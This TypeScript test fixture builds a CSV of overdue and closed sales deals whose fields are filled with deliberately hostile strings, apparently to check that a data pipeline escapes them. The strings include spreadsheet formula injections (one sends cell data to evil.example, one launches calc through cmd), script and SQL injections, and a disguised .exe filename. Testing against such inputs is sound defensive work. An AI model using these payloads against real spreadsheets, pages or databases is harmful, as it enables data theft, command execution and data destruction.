/** Names that a spreadsheet, a page or a reader could take for something else. */
export const hostileNames = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '＝1+1',
  '<img src=x onerror="window.hit=1"><script>window.hit=2</script>',
  'Quotes "double", \'single\', and; semicolons',
  '\u202Egnp.exe\u202C 계약 العقد',
  'Rocket 🚀 & 深圳',
  "'); DROP TABLE weir.stage; --",
  '$as_of $limit {{where}}',
] as const;

/** A list of open deals that are past their close date, with these names as names, owners, accounts, segments and next steps. */
export function hostileDeals(): string {
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const head =
    'Deal ID,Deal Name,Account,Owner,Segment,Stage,Amount,Create Date,Expected Close Date,Last stage change,Next step,Loss Reason,Closed';
  const open = hostileNames.map((name, i) =>
    [
      `H-${i}`,
      name,
      name,
      name,
      name,
      'Proposal',
      String(1000 + i),
      '2025-01-01',
      '2025-03-01',
      '2025-01-05',
      name,
      '',
      '',
    ]
      .map(quoted)
      .join(','),
  );
  const closed = Array.from({ length: 30 }, (_, i) => {
    const [stage, reason] =
      i % 3 === 0 ? ['Closed Lost', hostileNames[i % hostileNames.length]!] : ['Closed Won', ''];
    const closedOn = `2025-0${1 + (i % 3)}-1${i % 9}`;
    return [
      `C-${i}`,
      `Closed ${i}`,
      'Acme',
      'Ann',
      hostileNames[i % 12]!,
      stage!,
      '500',
      '2024-12-01',
      closedOn,
      closedOn,
      '',
      reason!,
      closedOn,
    ]
      .map(quoted)
      .join(',');
  });
  return `${[head, ...open, ...closed].join('\n')}\n`;
}
